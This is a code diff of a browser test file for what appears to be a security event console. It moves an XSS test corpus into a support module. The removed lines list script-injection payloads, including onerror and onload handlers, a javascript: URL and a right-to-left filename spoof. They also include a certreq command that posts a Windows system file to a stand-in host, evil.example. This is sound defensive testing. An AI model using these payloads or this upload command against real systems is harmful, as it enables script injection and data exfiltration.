@@ -15,6 +15,7 @@ import { defaultConfig } from '../../src/server/config.js';
 import { REPO_ROOT } from '../helpers/paths.js';
 import { AUTH, TOKEN } from './support/http.js';
 import { ndjson, sysmonProcessCreate } from './support/events.js';
+import { XSS, xssEvents } from './support/xss.js';
 
 // The browser globals used inside page.evaluate callbacks (they run in Chromium; the tests' tsconfig has no DOM
 // lib, and adding it globally would retype fetch for every other test). Module-scoped declarations only.
@@ -45,15 +46,6 @@ const ARTIFACTS = join(REPO_ROOT, 'test-artifacts', 'console');
 const WIDE = { width: 1440, height: 900 };
 const NARROW = { width: 390, height: 844 };
 
-// The XSS corpus: each string goes through a field the console shows (command line, image, parent, user, host, URL).
-const XSS = {
-  img: '<img src=x onerror="window.__pwned=1;alert(1)">',
-  script: '"><script>window.__pwned=2;alert(2)</script>',
-  js: 'javascript:alert(3)//',
-  bidi: 'invoice\u202Etxt.exe',
-  svg: '<svg onload=alert(4)>',
-};
-
 let srv: RunningServer;
 let browser: Browser | undefined;
 let dataDir = '';
@@ -64,28 +56,6 @@ async function ingest(body: string | Buffer, headers: Record<string, string>, ma
   const answer = (await r.json()) as { rejected?: number; stored?: number };
   assert.equal(r.status, malformed ? 400 : 200, JSON.stringify(answer));
   assert.equal(answer.rejected ?? 0, malformed, JSON.stringify(answer));
-}
-
-function xssEvents(): Record<string, unknown>[] {
-  const base = { time: '2024-05-02T08:00:00.000Z' };
-  return [
-    sysmonProcessCreate({
-      ...base,
-      recordId: 900001,
-      host: `XSS01${XSS.img}`,
-      user: `CORP\\${XSS.script}`,
-      image: `C:\\Users\\Public\\${XSS.bidi}\\certreq.exe`,
-      parentImage: `C:\\Windows\\${XSS.svg}\\cmd.exe`,
-      commandLine: `certreq -Post -config ${XSS.js}https://x.example/${encodeURIComponent('"')} C:\\Users\\Public\\${XSS.bidi} "${XSS.img}" ${XSS.script}`,
-    }),
-    sysmonProcessCreate({
-      ...base,
-      recordId: 900002,
-      host: 'XSS02.corp.example',
-      commandLine: `certreq -Post -config https://evil.example/${XSS.script} C:\\Windows\\win.ini ${XSS.svg}`,
-      user: `CORP\\${XSS.bidi}`,
-    }),
-  ];
 }
 
 before(async () => {
